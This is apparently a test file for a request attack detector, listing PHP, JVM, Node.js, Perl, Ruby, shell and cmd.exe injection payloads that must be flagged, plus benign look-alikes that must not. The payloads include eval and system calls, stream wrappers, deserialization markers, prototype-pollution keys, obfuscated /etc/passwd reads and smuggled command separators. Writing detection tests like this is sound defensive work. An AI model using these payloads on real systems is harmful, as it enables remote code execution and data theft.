/**
 * Code injection in the server languages (code-injection.ts) and the cmd.exe forms of rce.ts, as
 * examples through AttackDetector: each attack with the class it must give, then benign
 * look-alikes (README prose and code, ordinary names and values) that must give nothing. Values
 * are written decoded; `q` puts them in a query argument, `form` in a form field, `json` in a
 * JSON string, `cookie` in a cookie, `key` as a query parameter name, `upload` as the file name of
 * a multipart upload, `xfile` in an X-File-Name header.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { AttackDetector } from '../../../node/analysis/attacks';
import type { AttackClass } from '../../../node/records/types';
import { at, RELAXED, tx, type Where } from './helpers';

const detector = new AttackDetector(RELAXED);
const classes = (where: Where, v: string): AttackClass[] => detector.detect(tx(at(where, v)))?.hits.map((h) => h.class) ?? [];

const ATTACKS: Array<[string, Where, string]> = [
  // PHP
  ['a PHP short echo tag', 'q', '<?=1;echo 1;'],
  ['a PHP open tag', 'form', '<?php phpinfo(); ?>'],
  ['a closing PHP tag of a template engine', 'q', 'echo "test"[/php]'],
  ['a superglobal', 'q', "$_SERVER['test'];"],
  ['a variable variable', 'q', "${'_VAR'.'IABLE_NAME'}"],
  ['a call through an array element', 'form', "$d['o'](9)"],
  ['a call through a variable with a comment', 'q', "$_aB_4c[5]['d'] /*lol*/ (17)"],
  ['a call of a bare variable', 'form', '$a(1)'],
  ['a function name in parentheses', 'q', '(system)(ls);'],
  ['a function name in brackets', 'q', '[system][0](ls);'],
  ['a function name behind a comment', 'q', '(/* comment */system)(ls);'],
  ['a function name split into strings', 'q', "(['sys'.'tem'])[0]('uname');"],
  ['a string called as a function', 'q', '"system"(ls);'],
  ['a hex-escaped string called as a function', 'q', '"\\x73y\\x73tem"(ls);'],
  ['a comment between a function and its arguments', 'q', 'exec /*comment*/ (blah)'],
  ['a risky call as the whole value', 'q', 'base64_decode()'],
  ['nested decoding calls', 'q', 'eval(gzinflate(str_rot13(base64_decode("")'],
  ['echo of a call after a statement break', 'form', 'x;echo md5("probe");'],
  ['a call after a string break', 'form', 'test".system(id)."'],
  ['a PHP function name as a callback value', 'q', 'call_user_func_array'],
  ['a serialized PHP object', 'cookie', 'O:8:"stdClass":1:{s:1:"a";i:2;}'],
  ['the php:// wrapper', 'q', 'php://filter/convert.base64-encode/resource=index'],
  ['the expect:// wrapper', 'q', 'expect://id'],
  ['the phar:// wrapper', 'form', 'phar://upload.zip/shell.txt'],
  ['a data:// stream', 'q', 'data://text/plain;base64,PD9waHAgcGhwaW5mbygpOyA/Pg=='],
  // Uploads the server would run.
  ['a PHP upload', 'upload', 'shell.php'],
  ['a PHP upload behind a second extension', 'upload', 'test.php.jpg'],
  ['a PHP upload with trailing dots', 'xfile', 'fda.php5...'],
  ['a JSP upload', 'upload', 'cmd.jsp'],
  ['a PHP session file', 'xfile', 'sess_d8ew88tqmabdcokhumchy8htqm'],
  // JVM
  ['a JDK class', 'q', 'java.lang.Runtime'],
  ['a JDK class as a parameter name', 'key', 'java.lang.ProcessBuilder'],
  ['a short JDK reference', 'form', 'java.ProcessBuilder'],
  ['a JDK I/O class', 'json', 'java.io.FileOutputStream'],
  ['a class of the JDK internals', 'json', 'com.sun.rowset.JdbcRowSetImpl'],
  ['a SpEL type reference', 'q', 'T(java.net.InetAddress).getByName("x.example")'],
  [
    'a class called by its full name',
    'q',
    "com.bea.core.repackaged.springframework.context.support.FileSystemXmlApplicationContext('http://x.example/a.xml')",
  ],
  ['reflection', 'json', 'Class.forName("x").getDeclaredMethod("y")'],
  ['a Commons Collections gadget', 'form', 'runtime.clonetransformer'],
  ['a gadget under a dotted chain', 'json', 'ProcessBuilder.evil.invokertransformer'],
  ['a Java serialized stream in base64', 'cookie', 'rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZQ'],
  ['a Java serialized stream in hex', 'form', 'aced0005737200'],
  ['a Java stream magic cut at another alignment', 'q', 'KztAAU'],
  ['a gadget name in base64 cut from a longer encoding', 'q', 'Bmb3JjbG9zdXJl'],
  ['a .NET BinaryFormatter stream', 'form', 'AAEAAAD/////AQAAAAAAAAAMAgAAAF'],
  // Node.js
  ['the child_process module', 'q', "require('child_process').exec('id')"],
  ['the main module loader', 'q', "#{require.main.constructor._load('fs').readdirSync('.')}"],
  ['process.binding', 'q', '#{process.binding(foo).spawn(foo2)}'],
  ['a serialized function of node-serialize', 'json', '_$$ND_FUNC$$_function(){}()'],
  ['prototype pollution in a parameter name', 'key', '__proto__[isAdmin]'],
  ['prototype pollution through constructor', 'key', 'a[constructor][prototype][x]'],
  ['an endless loop for eval', 'q', 'while(true);'],
  // Perl and Ruby
  ['Perl interpolation of a call', 'q', "@{[system 'whoami']}"],
  ['a Perl core call', 'q', "@{[ CORE::system 'id' ]}"],
  ['Ruby Process.spawn', 'q', 'Process.spawn("id")'],
  // cmd.exe
  ['cmd.exe IF with a comparison', 'q', 'IF red==red echo test'],
  ['cmd.exe IF NOT DEFINED', 'q', 'if not defined n1 set "n1=0"'],
  ['cmd.exe IF /I', 'q', 'if /i a==b foo'],
  ['cmd.exe IF EXIST', 'q', 'IF EXIST C:\\pagefile.sys (CMD) ELSE (CMD)'],
  ['cmd.exe FOR /R', 'q', 'For /R C:\\temp\\ %G IN (*.bak) do Echo del "%G"'],
  ['cmd.exe FOR with an odd variable', 'q', '& FOR %/ IN (a,b,c) DO cmd'],
  // Shell
  ['a system file behind a bracket glob', 'q', '/etc/pas[s]wd'],
  ['a system file behind a negated glob', 'q', '/etc/[!q]asswd'],
  ['stars inside directory names', 'q', 'cat /et*/*wd'],
  ['a command kept in a variable and run', 'q', "CMD=$'id';$CMD"],
  ['an alias defined as a command', 'q', 'alias -p jzfrx=id'],
  ['an alias defined as a quoted command line', 'form', "alias ls-al='ls -al'"],
  ['an alias defined, then run', 'json', 'alias eennvv=env&eennvv whoami'],
  ['an alias hiding a split name, then run', 'q', 'alias a=c${KK}url&a google.com'],
  ['a PHP test script upload', 'xfile', 'dangerous.phpt'],
  ['an address piped to a command', 'form', '127.0.0.1|echo k3x9qz7w'],
  ['a host name then a probe word', 'q', 'example.com;id'],
  ['a command runner given a bare command name', 'q', 'id[args]=cmd=system(ver)'],
  ['a ColdFusion script block in a cookie', 'cookie', "render('<cfscript>writeoutput(1)</cfscript>')"],
  ['a CMS template condition running PHP', 'form', "}{end if} {if:1)echo md5('x');if(1}{end if}"],
];

test('rce: PHP as a processing instruction inside an XML-RPC value', () => {
  const body =
    '<?xml version="1.0"?><methodCall><methodName>system.listMethods</methodName><params><param><value><?php phpinfo(); ?></value></param></params></methodCall>';
  const r = detector.detect(
    tx({
      method: 'POST',
      target: '/xmlrpc.php',
      headers: [
        ['Host', 'a.example'],
        ['Content-Type', 'text/xml'],
      ],
      body,
    }),
  );
  assert.deepEqual(
    r?.hits.map((h) => [h.class, h.point.join('/')]),
    [['rce', 'xml/methodCall/params/param/value/#pi']],
  );
});

test('no hit: an XML declaration and a stylesheet instruction', () => {
  const body = '<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="style.xsl"?><note><to>Ann</to></note>';
  const r = detector.detect(
    tx({
      method: 'POST',
      target: '/notes',
      headers: [
        ['Host', 'a.example'],
        ['Content-Type', 'text/xml'],
      ],
      body,
    }),
  );
  assert.equal(r, null);
});

test('rce: a script named in an X.Filename header', () => {
  const r = detector.detect(
    tx({
      method: 'PUT',
      target: '/upload',
      headers: [
        ['Host', 'a.example'],
        ['X.Filename', 'a.php'],
      ],
      body: 'x',
    }),
  );
  assert.ok(r?.hits.some((h) => h.class === 'rce'));
});

for (const [name, where, value] of ATTACKS) {
  test(`rce: ${name}`, () =>
    assert.ok(classes(where, value).includes('rce'), `${JSON.stringify(value)} -> ${classes(where, value)}`));
}

const BENIGN: Array<[string, Where, string]> = [
  ['prose naming a Java runtime', 'q', 'Install the Java Runtime Environment 17'],
  ['a download URL of the JDK', 'q', 'https://jdk.java.net/21/'],
  ['a Java package in prose', 'form', 'Use the Java collections framework for lists'],
  ['a Markdown link named like a PHP function', 'form', 'file-walking use cases such as [glob](http://npm.im/glob) (ie,'],
  ['a Markdown link to a PHP port', 'form', 'Available also for **[PHP](./php/flatted.php)**.'],
  ['prose naming child_process', 'form', 'stdout to be limited only to the child_process, as usual'],
  ['a dollar word before parentheses in prose', 'form', 'You cannot have the same $id (or the schema identifier) twice'],
  ['prose with a comparison', 'form', 'if a == b and c then return'],
  ['prose about an alias', 'form', 'Set the alias name=work in settings, then use it'],
  ['an alias of no command', 'q', 'alias -g x=y'],
  ['a file name then a word after a semicolon', 'q', 'file.txt;type'],
  ['a host list', 'form', 'example.com;cat.example.org'],
  ['prose naming a system in parentheses', 'q', 'the system(s) we use'],
  ['Go code with a comparison', 'form', 'if err == nil {'],
  ['a price with a dollar', 'q', '$5 (five dollars)'],
  ['an image upload', 'upload', 'holiday.photo.jpg'],
  ['a text upload', 'xfile', 'report-2024.txt'],
  ['a PDF upload named after PHP', 'upload', 'php-handbook.pdf'],
  [
    'a data URI of an image',
    'json',
    'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==',
  ],
  ['a random token', 'cookie', 'Yz1hYmMxMjM0NTY3ODkwZGVmZ2hpams'],
  ['a reverse-DNS app id', 'q', 'com.example.myapp'],
  ['a function-like search term', 'q', 'System (32 bit)'],
  ['a process word', 'q', 'process environment'],
  ['a while in prose', 'form', 'while (and only while) the job runs'],
  ['a loop that never runs', 'q', 'while(!true);'],
  ['a variable with empty brackets', 'q', '$a[]()'],
  ['an escaped short tag before prose', 'q', '&lt;? should not trigger'],
  ['a short echo tag before symbols', 'json', '<?=!@#$%^&'],
  ['an open tag with nothing after it', 'cookie', '<?php'],
  ['a wildcard in an API path', 'q', '/api/*/items'],
  ['a file pattern in prose', 'form', 'copy the files in /usr/share/*.txt'],
];

for (const [name, where, value] of BENIGN) {
  test(`benign: ${name}`, () => assert.deepEqual(classes(where, value), [], JSON.stringify(value)));
}
